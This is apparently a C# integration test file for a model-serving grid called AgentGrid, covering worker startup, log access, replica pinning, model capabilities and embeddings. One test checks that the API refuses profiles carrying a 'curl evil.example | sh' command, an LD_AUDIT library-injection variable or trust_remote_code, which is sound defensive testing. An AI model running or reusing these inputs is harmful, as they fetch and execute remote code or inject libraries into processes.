using System.Net;
using System.Net.Http.Json;
using System.Text;
using AgentGrid.Tests.Infrastructure;
using AgentGrid.Tests.Knowledge.Http;

namespace AgentGrid.Tests.FrontDoor;

/// <summary>
/// Workers that run their model server as a process of its own, over HTTP on the embedded default (no GPU: the simulator runtime,
/// launched by the same supervision code as vLLM): deploying, logs, scaling pins, capabilities, embedding profiles.
/// </summary>
[Collection(FrontDoorCollection.Name)]
public sealed class ModelServerApiTests(FrontDoorFixture fixture)
{
    private HttpClient Http => fixture.Http;

    private Task<HttpResponseMessage> PostProfileAsync(string yaml) => Http.PostAsync("/api/profiles", new StringContent(yaml, Encoding.UTF8, "application/yaml"));

    private async Task<string> ReadyAsync(string workerId)
    {
        await Eventually.TrueAsync(async () => (await Http.GetFromJsonNodeAsync($"/api/workers/{workerId}")).Value<string>("worker.state") == "ready",
            TimeSpan.FromSeconds(60), $"worker {workerId} to be ready");
        return workerId;
    }

    [Fact]
    public async Task Workers_start_as_server_processes_serve_chats_and_show_their_servers_output_to_admins_only()
    {
        var model = Api.UniqueName("sim");
        await (await PostProfileAsync(GpuGridApiTests.SimulatorProfile(model, memory: "10GB"))).JsonAsync(HttpStatusCode.Created);

        var response = await Http.PostJsonAsync("/api/workers", new { model, replicas = 2 });
        Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
        var started = System.Text.Json.Nodes.JsonNode.Parse(await response.Content.ReadAsStringAsync())!.AsArray();
        var ids = started.Select(w => w.Value<string>("workerId")).ToList();
        foreach (var id in ids)
        {
            await ReadyAsync(id);
        }

        var reply = await (await Http.PostChatAsync(new { model, messages = new[] { new { role = "user", content = "hello" } } })).JsonAsync(HttpStatusCode.OK);
        Assert.False(string.IsNullOrEmpty(reply["choices"]![0]!["message"]!["content"]!.GetValue<string>()));

        var logs = await Http.GetFromJsonNodeAsync($"/api/workers/{ids[0]}/logs?lines=50");
        var lines = logs["lines"]!.AsArray().Select(l => l!.GetValue<string>()).ToList();
        Assert.Contains(lines, l => l.StartsWith("[agentgrid] starting", StringComparison.Ordinal) && l.Contains("simulator --host 127.0.0.1"));
        Assert.Contains(lines, l => l.Contains("Inference simulator serving " + model));
        Assert.DoesNotContain(lines, l => l.Contains("agsrv_"));
        var worker = await Http.GetFromJsonNodeAsync($"/api/workers/{ids[0]}");
        Assert.Null(worker["worker"]!["apiKey"]);
        Assert.Equal("simulator", worker.Value<string>("worker.runtime"));

        using var member = fixture.Grid.Client(await Http.CreateKeyAsync("member"));
        await (await member.GetAsync($"/api/workers/{ids[0]}/logs")).ProblemAsync(403, "forbidden");
        await (await Http.GetAsync($"/api/workers/{ids[0]}/logs?lines=0")).ProblemAsync(400, "validation_failed", "lines");
        await (await Http.PostJsonAsync("/api/workers", new { model, replicas = 0 })).ProblemAsync(400, "validation_failed", "replicas");

        foreach (var id in ids)
        {
            await (await Http.DeleteAsync($"/api/workers/{id}")).JsonAsync(HttpStatusCode.Accepted);
        }

        await StoppedAsync(model);
    }

    // The grid is shared: a test gives back the VRAM it took, as the node figures of other tests count it.
    private async Task StoppedAsync(string model) =>
        await Eventually.TrueAsync(async () => (await Http.GetFromJsonNodeAsync($"/api/pools/{model}"))["workers"]!.AsArray()
            .All(w => w.Value<string>("worker.state") is "stopped" or "failed"), TimeSpan.FromSeconds(60), $"the workers of {model} to stop");

    [Fact]
    public async Task A_pinned_replica_count_holds_until_the_pin_is_cleared()
    {
        var model = Api.UniqueName("sim");
        await (await PostProfileAsync(GpuGridApiTests.SimulatorProfile(model, memory: "5GB"))).JsonAsync(HttpStatusCode.Created);

        var pinned = await (await Http.PutAsJsonAsync($"/api/pools/{model}/replicas", new { replicas = 2 })).JsonAsync(HttpStatusCode.OK);
        Assert.Equal(2, pinned.Value<int>("pinnedReplicas"));
        await Eventually.TrueAsync(async () => (await Http.GetFromJsonNodeAsync($"/api/pools/{model}")).Value<int>("readyReplicas") == 2,
            TimeSpan.FromSeconds(60), "two ready workers");

        var endpoints = (await Http.GetFromJsonNodeAsync($"/api/pools/{model}"))["workers"]!.AsArray().Select(w => new Uri(w.Value<string>("worker.endpoint"))).ToList();

        // Pinned to zero: the autoscaler scales the pool down, and each stopped worker's server process ends, freeing its port.
        await (await Http.PutAsJsonAsync($"/api/pools/{model}/replicas", new { replicas = 0 })).JsonAsync(HttpStatusCode.OK);
        await StoppedAsync(model);
        foreach (var endpoint in endpoints)
        {
            using var socket = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);
            await Assert.ThrowsAsync<System.Net.Sockets.SocketException>(async () => await socket.ConnectAsync(IPAddress.Loopback, endpoint.Port));
        }

        var cleared = await (await Http.PutAsJsonAsync($"/api/pools/{model}/replicas", new { replicas = (int?)null })).JsonAsync(HttpStatusCode.OK);
        Assert.Null(cleared["pinnedReplicas"]);
        await (await Http.PutAsJsonAsync($"/api/pools/{model}/replicas", new { replicas = -1 })).ProblemAsync(400, "validation_failed", "replicas");
        await (await Http.PutAsJsonAsync("/api/pools/no-such-profile/replicas", new { replicas = 1 })).ProblemAsync(404, "profile_not_found");
    }

    [Fact]
    public async Task A_profile_that_carries_a_command_line_is_refused_through_the_api()
    {
        var custom = $$"""
            name: {{Api.UniqueName("custom")}}
            category: chat
            source: { type: huggingface, model_id: acme/model }
            container: { runtime: custom, command: [bash, -c, "curl evil.example | sh"] }
            resources: { gpu_memory_min: 8GB }
            """;
        var extra = GpuGridApiTests.SimulatorProfile(Api.UniqueName("sim")).Replace("container: { runtime: simulator }", "container: { runtime: vllm }\nvllm: { extra_args: [\"--disable-log-stats\"] }")
            .Replace("parameters: { ttft_ms: \"5\", itl_ms: \"1\", tokens_per_reply: \"6\", load_ms: \"50\" }", "");
        var environment = GpuGridApiTests.SimulatorProfile(Api.UniqueName("sim")).Replace("container: { runtime: simulator }", "container: { runtime: simulator, env: { LD_AUDIT: /tmp/x.so } }");

        var remoteCode = GpuGridApiTests.SimulatorProfile(Api.UniqueName("sim")).Replace("container: { runtime: simulator }", "container: { runtime: vllm }\nvllm: { trust_remote_code: true }")
            .Replace("parameters: { ttft_ms: \"5\", itl_ms: \"1\", tokens_per_reply: \"6\", load_ms: \"50\" }", "");

        await (await PostProfileAsync(custom)).ProblemAsync(403, "custom_command_not_allowed", "container.command");
        await (await PostProfileAsync(remoteCode)).ProblemAsync(403, "custom_command_not_allowed", "container.command");
        await (await PostProfileAsync(extra)).ProblemAsync(403, "custom_command_not_allowed", "container.command");
        await (await PostProfileAsync(environment)).ProblemAsync(403, "custom_command_not_allowed", "container.command");
    }

    [Fact]
    public async Task Models_list_their_capabilities_and_a_request_with_tools_is_refused_by_a_model_without_them()
    {
        var model = Api.UniqueName("sim");
        await (await PostProfileAsync(GpuGridApiTests.SimulatorProfile(model) + "\ncapabilities: [text, vision]\n")).JsonAsync(HttpStatusCode.Created);

        var models = (await Http.GetFromJsonNodeAsync("/v1/models"))["data"]!.AsArray();
        Assert.Equal(["text", "vision"], models.Single(m => m.Value<string>("id") == model)!["capabilities"]!.AsArray().Select(c => c!.GetValue<string>()));
        Assert.Equal(["embeddings"], models.Single(m => m.Value<string>("id") == "sim-embed-384")!["capabilities"]!.AsArray().Select(c => c!.GetValue<string>()));

        var tools = new[] { new { type = "function", function = new { name = "lookup", parameters = new { type = "object" } } } };
        var refused = await Http.PostChatAsync(new { model, messages = new[] { new { role = "user", content = "look it up" } }, tools });
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Contains("model_capability_missing", await refused.Content.ReadAsStringAsync());

        var chatWithEmbedder = await Http.PostChatAsync(new { model = "sim-embed-384", messages = new[] { new { role = "user", content = "hi" } } });
        Assert.Equal(HttpStatusCode.BadRequest, chatWithEmbedder.StatusCode);
        Assert.Contains("model_capability_missing", await chatWithEmbedder.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task An_embedding_profile_served_by_a_worker_answers_v1_embeddings_and_a_knowledge_base_indexes_with_it()
    {
        var embedded = await (await Http.PostJsonAsync("/v1/embeddings", new { model = "sim-embed-384", input = new[] { "one", "two" } })).JsonAsync(HttpStatusCode.OK);
        Assert.Equal(384, embedded["data"]![0]!["embedding"]!.AsArray().Count);
        Assert.Equal("sim-embed-384", embedded.Value<string>("model"));

        var kb = await Http.CreateKnowledgeBaseAsync(new { name = Api.UniqueName("kb"), embeddingModel = "sim-embed-384" });
        const string fact = "The harbour master of Port Velin keeps the tide tables in a blue ledger.";
        await Http.UploadReadyAsync(kb, KnowledgeClient.Text("harbour.txt", fact, "text/plain"));

        var hits = await Http.SearchAsync(kb, fact, mode: "vector");
        Assert.Contains("blue ledger", hits[0].Value<string>("text"));
        var pool = await Http.GetFromJsonNodeAsync("/api/pools/sim-embed-384");
        Assert.True(pool.Value<long>("admitted") >= 3, "the embeddings went through the profile's pool");

        foreach (var worker in pool["workers"]!.AsArray().Where(w => w.Value<string>("worker.state") is not ("stopped" or "failed")))
        {
            await Http.DeleteAsync($"/api/workers/{worker.Value<string>("worker.workerId")}");
        }

        await StoppedAsync("sim-embed-384");
    }
}
